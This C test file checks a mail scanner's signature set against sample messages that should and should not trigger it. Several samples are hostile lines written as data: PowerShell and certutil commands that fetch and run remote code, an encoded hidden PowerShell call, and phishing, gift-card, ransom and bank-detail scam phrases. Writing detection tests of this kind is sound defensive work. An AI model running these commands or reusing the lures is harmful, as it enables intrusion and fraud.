// SPDX-License-Identifier: BSD-3-Clause

// The signatures that come along: each finds what it is for, none fires on ordinary mail.

#include "scan/scan_paths.h"
#include "scan_box.h"

#include <stdlib.h>

#include <criterion/criterion.h>

static void init(void)
{
	static const char *const paths[] = {SIGNATURES_FOLDER};
	const struct scan_settings settings = {paths, 1, NULL};

	box_init();
	struct scan_set *set = scan_set_load(&settings, &box.faults);
	cr_assert_not_null(set, "%s", box_faults());
	cr_assert_eq(scan_pool_use(box.pool, set), 0);
	scan_set_drop(set);
}

TestSuite(scan_shipped, .init = init, .fini = box_fini);

#define HEAD   "From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
#define TEXT   HEAD "\r\n"
#define PART   TEXT "--b\r\n"
#define EICAR1 "X5O!P%@AP[4\\PZX54(P^)7CC)7}"
#define EICAR2 "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
#define GTUBE1 "XJS*C4JDBQADN1.NSBN3*2IDNEN*"
#define GTUBE2 "GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
#define B64    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFO"

// The ids found, scopes left out.
static const struct {
	const char *mail, *ids;
} found[] = {
	{TEXT EICAR1 EICAR2 "\r\n", "1001"},
	{TEXT B64 "VElWSVJVUy1URVNU\r\nLUZJTEUhJEgrSCo=\r\n", "1002"},
	{TEXT B64 "\r\nVElWSVJVUy1URVNULUZJTEUhJEgrSCo=\r\n", "1002"},
	{TEXT B64 "VElWSVJVUy1URVNULUZJTEUhJEgrSCo=\r\n", "1002"},
	{TEXT GTUBE1 GTUBE2 "\r\n", "1003"},
	{PART "Content-Disposition: attachment; filename=\"setup.exe\"\r\n", "2001"},
	{PART "Content-Disposition: attachment;\r\n\tfilename=\"setup.EXE\"\r\n", "2001"},
	{PART "Content-Type: application/octet-stream; name=run.js\n", "2001"},
	{PART "Content-Type: text/plain;\r\n name=a.lnk; x=y\r\n", "2001"},
	{PART "Content-Disposition: attachment; filename*0*=utf-8''a.hta\r\n", "2001"},
	{HEAD "Content-Disposition: attachment; filename=a.vbs\r\n\r\nx", "2001"},
	{PART "Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n",
		"2001 2002"},
	{PART "Content-Disposition: attachment; filename=\"a.docx   .scr\"\r\n",
		"2001 2002"},
	{PART "Content-Disposition: attachment; filename=\"disk.iso\"\r\n", "2003"},
	{PART "Content-Type: application/x; name=\"a.img\"\r\n", "2003"},
	{PART "Content-Type: application/onenote; name=\"note.one\"\r\n", "2004"},
	{PART "Content-Type: application/x; name=\"book.xlsm\"\r\n", "2005"},
	{PART "Content-Type: application/vnd.ms-word.document.macroEnabled.12\r\n",
		"2006"},
	{PART "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAA\r\n",
		"2007"},
	{PART "Content-Transfer-Encoding: base64\r\n\r\nf0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA\r\n",
		"2008"},
	{PART "Content-Disposition: attachment; filename=\"invoice.html\"\r\n", "2009"},
	{TEXT "The attached archive is for you, password is 4711\r\n", "2010"},
	{TEXT "Password for the zip: 4711\r\n", "2010"},
	{TEXT "IEX (New-Object Net.WebClient).DownloadString('http://x/')\r\n", "3001"},
	{TEXT "powershell.exe -nop -w hidden -enc "
	      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu\r\n",
		"3002"},
	{TEXT "certutil.exe -urlcache -f http://x/a a.exe\r\n", "3003"},
	{TEXT "mshta https://x/\r\n", "3003"},
	{TEXT "<script>var b = new Blob([d]); u = URL.createObjectURL(b)\r\n", "3004"},
	{TEXT "<a href=\"data:text/html;base64,PGh0bWw+\">\r\n", "3005"},
	{TEXT "<a href=3D\"data:text/html;base64,PGh0bWw+\">\r\n", "3005"},
	{TEXT "<input name=\"p\"\r\n type=\"password\">\r\n", "3006"},
	{TEXT "Your mailbox will be suspended. Click here\r\n", "3007"},
	{TEXT "Please verify your account within 24 hours\r\n", "3007"},
	{TEXT "<a href=\"http://192.0.2.7/owa/\">\r\n", "3008"},
	{TEXT "I need you to buy some gift cards and send me the codes\r\n", "3009"},
	{TEXT "Our bank details have changed\r\n", "3010"},
	{TEXT "I hacked your device\r\n", "3011"},
	{TEXT "Send 0.1 BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT\r\n", "3012"},
	{TEXT "relationships/attachedTemplate\" Target=\"https://x/\r\n", "3013"},
};

static const char *const ordinary[] = {
	TEXT "Hello,\r\n\r\nthe report is attached. Regards, A.\r\n",
	TEXT
	"The password policy is: twelve characters. Your account manager is new.\r\n",
	TEXT "Please find the file at https://example.org/setup.exe and run it.\r\n",
	TEXT
	"In C:\\Windows\\explorer.exe there is powershell, and certutil -hashfile x\r\n",
	TEXT "We bought a gift card for her birthday. Bank holiday is on Monday.\r\n",
	TEXT "Payment details: see the attached invoice. Thank you for your payment.\r\n",
	PART "Content-Type: application/pdf; name=\"exe.pdf\"\r\n"
	     "Content-Disposition: attachment; filename=\"exe.pdf\"\r\n"
	     "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcOkw7zDtsOfCg==\r\n",
	PART "Content-Disposition: attachment; filename=\"report.v2.docx\"\r\n",
	PART "Content-Disposition: attachment; filename=\"example.com.pdf\"\r\n",
	PART "Content-Type: image/png; name=\"one.png\"\r\n",
	PART "Content-Disposition: inline; filename=\"signature.html\"\r\n",
	PART
	"Content-Type: text/html; charset=utf-8\r\n\r\n<a href=\"https://example.org/"
	"login\"><img src=\"data:image/png;base64,iVBORw0KGgo=\"></a><input type=text>",
	TEXT "0\r\n\r\nTVqQ is how a program begins in base64\r\n",
	TEXT "Bitcoin fell to 30000 today, analysts say. Send me your thoughts.\r\n",
	TEXT "You asked to reset your password. Your account is active.\r\n",
	HEAD "Message-ID: <a.exe@example.com>\r\nX-Name: name=a.exe.txt\r\n\r\nx\r\n",
};

// The ids of the mail scanned last, each once.
static const char *ids(void)
{
	static char text[BOX_HITS_MAX];
	size_t len = 0;
	char last[32] = "";

	text[0] = '\0';
	for (size_t i = 0; i < box.hit_count; i++) {
		char id[32];
		snprintf(id, sizeof(id), "%.*s", (int)strcspn(box.hits[i], ":"),
			box.hits[i]);
		if (strcmp(id, last) != 0)
			len += (size_t)snprintf(text + len, sizeof(text) - len, "%s%s",
				len > 0 ? " " : "", id);
		memcpy(last, id, sizeof(last));
	}
	return text;
}

Test(scan_shipped, each_finds_what_it_is_for)
{
	for (size_t i = 0; i < sizeof(found) / sizeof(found[0]); i++) {
		box_scan(span_text(found[i].mail));
		cr_expect_str_eq(
			ids(), found[i].ids, "found %s in:\n%s", ids(), found[i].mail);
	}
}

Test(scan_shipped, each_is_tried)
{
	const struct scan_set *set = scan_pool_set(box.pool);
	char id[16];

	for (size_t n = 0; n < scan_set_count(set); n++) {
		size_t i = 0, count = sizeof(found) / sizeof(found[0]);
		snprintf(id, sizeof(id), "%u", scan_set_get(set, n)->id);
		while (i < count && strstr(found[i].ids, id) == NULL)
			i++;
		cr_expect_lt(i, count, "no mail for %s", id);
		cr_expect_lt(scan_set_get(set, n)->id, 1000000);
		cr_expect_not_null(scan_set_get(set, n)->category, "%s", id);
	}
}

Test(scan_shipped, none_fires_on_ordinary_mail)
{
	for (size_t i = 0; i < sizeof(ordinary) / sizeof(ordinary[0]); i++)
		cr_expect_str_eq(box_scan(span_text(ordinary[i])), "", "found %s in:\n%s",
			box.text, ordinary[i]);
}

// As they come from the wire: in segments, in chunks, in octets.
Test(scan_shipped, cut_in_pieces)
{
	for (size_t i = 0; i < sizeof(found) / sizeof(found[0]); i++)
		for (size_t piece = 1; piece < 40; piece += 6) {
			box_scan_pieces(span_text(found[i].mail), piece);
			cr_expect_str_eq(ids(), found[i].ids, "pieces of %zu:\n%s", piece,
				found[i].mail);
		}
}
